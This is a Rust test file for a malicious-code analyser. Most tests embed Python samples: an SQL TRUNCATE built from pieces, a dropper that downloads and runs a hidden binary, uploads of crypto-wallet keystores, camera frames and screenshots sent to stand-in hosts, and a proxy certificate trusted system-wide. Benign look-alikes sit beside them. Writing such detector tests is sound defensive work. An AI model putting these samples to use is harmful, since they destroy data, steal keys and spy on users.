//! Behaviour tests for the twenty-third session (what the twenty-first
//! batch's held-out misses showed, written as behaviours and spelled unlike
//! them: SQL keywords built from pieces, paths and commands unpacked from
//! per-platform tables and from helpers' returned pairs, wallet stores
//! listed by a helper, modules kept behind nicknames in a comprehension,
//! library functions handed to runners), each with a control, and three
//! look-alikes the engine flagged (a module picked from a literal table, an
//! expression validated by a helper before it is evaluated, a read-only
//! sudo policy report). Every case (the `src` of each test) is misjudged
//! by the analyser at 7372b59: the malicious ones rated LOW or HIGH short
//! of their rule, the look-alikes HIGH.

use super::behaviour19_tests::{caught, spared};
use super::Verdict;

// SQL run from pieces (MB945)

/// `TRUNCATE` assembled from a list, run on every table the catalogue lists.
#[test]
fn truncate_built_from_pieces_on_every_listed_table() {
    let src = r#"import psycopg2
WORDS = ["TRUN", "CATE ", "TA", "BLE "]
conn = psycopg2.connect("dbname=shop")
cur = conn.cursor()
cur.execute("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
for (name,) in cur.fetchall():
    stmt = "".join(WORDS) + name + " CASCADE"
    cur.execute(stmt)
conn.commit()
"#;
    caught(src, "MB945", Verdict::Blocked);
    spared(
        &src.replace(r#"["TRUN", "CATE ", "TA", "BLE "]"#, r#"["ANA", "LYZE "]"#),
        "MB945",
    );
}

// Droppers whose target is unpacked (MB915)

/// The path is the second item of a per-platform pair picked by an
/// unknown key.
#[test]
fn dropper_target_unpacked_from_a_platform_table() {
    let src = r#"import os, sys, subprocess, urllib.request
TARGETS = {
    "linux": ("https://cdn.example.com/a", "~/.cache/.fontd"),
    "darwin": ("https://cdn.example.com/b", "~/Library/.agentd"),
}
def fetch(url, path):
    data = urllib.request.urlopen(url).read()
    with open(path, "wb") as fh:
        fh.write(data)
def go():
    url, where = TARGETS[sys.platform]
    path = os.path.expanduser(where)
    fetch(url, path)
    os.chmod(path, 0o700)
    subprocess.Popen([path], start_new_session=True)
go()
"#;
    caught(src, "MB915", Verdict::Blocked);
    let kept = src
        .replace("    os.chmod(path, 0o700)\n", "")
        .replace("    subprocess.Popen([path], start_new_session=True)\n", "");
    spared(&kept, "MB915");
}

// Wallet stores (MB916)

/// Key stores named in a dict a helper returns, looped over with
/// `.items()`, uploaded.
#[test]
fn wallet_stores_from_a_helpers_table_uploaded() {
    let src = r#"import requests
from pathlib import Path
def stores():
    h = Path.home()
    return {"eth": [h / ".ethereum/keystore"], "xmr": [h / "Monero/wallets"]}
for kind, places in stores().items():
    for place in places:
        for f in place.glob("*"):
            requests.put("https://drop.example.net/" + kind, data=f.read_bytes())
"#;
    caught(src, "MB916", Verdict::Blocked);
    spared(
        &src.replace(".ethereum/keystore", ".config/gimp/brushes")
            .replace("Monero/wallets", "Pictures/thumbs"),
        "MB916",
    );
}

// Modules behind nicknames (MB940)

/// Modules imported through a comprehension over a literal table, a camera
/// read in a loop and the frames posted.
#[test]
fn camera_through_nicknamed_modules_shipped() {
    let src = r#"import importlib, time
lib = {alias: importlib.import_module(mod) for alias, mod in {"vision": "cv2", "web": "requests"}.items()}
cam = lib["vision"].VideoCapture(0)
while True:
    ok, frame = cam.read()
    lib["web"].post("https://cam.example.org/f", data=frame.tobytes())
    time.sleep(5)
"#;
    caught(src, "MB940", Verdict::Blocked);
    spared(
        &src.replace("\"vision\": \"cv2\"", "\"vision\": \"json\""),
        "MB940",
    );
}

// Library functions handed to runners (MB940, MB916)

/// `run_in_executor` given `requests.post` with the screenshot.
#[test]
fn screenshot_sent_by_a_function_handed_to_an_executor() {
    let src = r#"import asyncio, io, requests
from PIL import ImageGrab
async def tick():
    buf = io.BytesIO()
    ImageGrab.grab().save(buf, "PNG")
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, requests.post, "https://img.example.com/u", buf.getvalue())
asyncio.run(tick())
"#;
    caught(src, "MB940", Verdict::Blocked);
    spared(
        &src.replace("None, requests.post,", "None, print,"),
        "MB940",
    );
}

// Commands unpacked from a helper's pairs (MB220)

/// The trust command is the second item of the pair a helper returns.
#[test]
fn trust_command_unpacked_from_a_helpers_pair() {
    let src = r#"import shutil, subprocess
def anchors():
    return "/etc/pki/ca-trust/source/anchors/", ["trust", "anchor", "--store", "proxy.pem"]
def apply():
    folder, cmd = anchors()
    shutil.copy("proxy.pem", folder)
    subprocess.check_call(cmd)
apply()
"#;
    caught(src, "MB220", Verdict::High);
    // The control copies to a folder of the user's own too: since the
    // twenty-fourth session the unbracketed pair's path is read as well.
    spared(
        &src.replace(
            r#"["trust", "anchor", "--store", "proxy.pem"]"#,
            r#"["openssl", "x509", "-noout", "-enddate", "-in", "proxy.pem"]"#,
        )
        .replace("/etc/pki/ca-trust/source/anchors/", "certs/"),
        "MB220",
    );
}

// Look-alikes no longer flagged

/// A module picked from a literal table by a key the user gives; the
/// control takes the module name itself from the command line.
#[test]
fn module_picked_from_a_literal_table_is_no_computed_import() {
    let src = r#"import importlib, sys
CODECS = {"gz": "gzip", "bz2": "bz2", "xz": "lzma"}
mod = importlib.import_module(CODECS.get(sys.argv[1], "gzip"))
print(mod.compress(b"hello"))
"#;
    spared(src, "MB411");
    let computed = src.replace(r#"CODECS.get(sys.argv[1], "gzip")"#, r#"sys.argv[1]"#);
    caught(&computed, "MB411", Verdict::High);
    // Any name the user gives, when the table lacks it.
    let fallback = src.replace(r#"sys.argv[1], "gzip")"#, r#"sys.argv[1], sys.argv[1])"#);
    caught(&fallback, "MB411", Verdict::High);
}

/// An expression whose tree a helper walks with type checks before it is
/// evaluated; the control's helper only parses.
#[test]
fn expression_checked_by_a_helper_before_eval() {
    let src = r#"import ast, operator
SAFE = (ast.Expression, ast.BinOp, ast.Constant, ast.Add, ast.Mult)
def vet(t):
    for n in ast.walk(t):
        if not isinstance(n, SAFE):
            raise ValueError(type(n).__name__)
def compute(text):
    t = ast.parse(text, mode="eval")
    vet(t)
    return eval(compile(t, "<q>", "eval"), {"__builtins__": {}})
print(compute(input("> ")))
"#;
    spared(src, "MB307");
    let unchecked = src.replace(
        "    for n in ast.walk(t):\n        if not isinstance(n, SAFE):\n            raise ValueError(type(n).__name__)\n",
        "    print(ast.dump(t))\n",
    );
    caught(&unchecked, "MB307", Verdict::High);
}

/// Functions fetched from a module by names from a literal tuple; the
/// control takes the names from the command line.
#[test]
fn functions_fetched_by_literal_names_are_no_computed_getattr() {
    let src = r#"import statistics, sys
OPS = {n: getattr(statistics, n) for n in ("mean", "median", "stdev")}
print(OPS[sys.argv[1]]([1, 2, 3]))
"#;
    spared(src, "MB413");
    let computed = src.replace(r#"("mean", "median", "stdev")"#, "sys.argv[2:]");
    caught(&computed, "MB413", Verdict::High);
}

/// A report on the sudo policy that checks its syntax and writes nothing;
/// the control also saves a copy of the policy.
#[test]
fn sudo_policy_report_with_a_syntax_check() {
    let src = r#"import subprocess
ok = subprocess.run(["visudo", "--check", "--quiet"]).returncode == 0
for line in open("/etc/sudoers"):
    if "NOPASSWD" in line:
        print("review:", line.strip())
print("syntax ok" if ok else "syntax errors")
"#;
    spared(src, "MB205");
    spared(src, "MB208");
    let copied =
        format!("{src}open(\"/tmp/policy.txt\", \"w\").write(open(\"/etc/sudoers\").read())\n");
    caught(&copied, "MB205", Verdict::High);
}
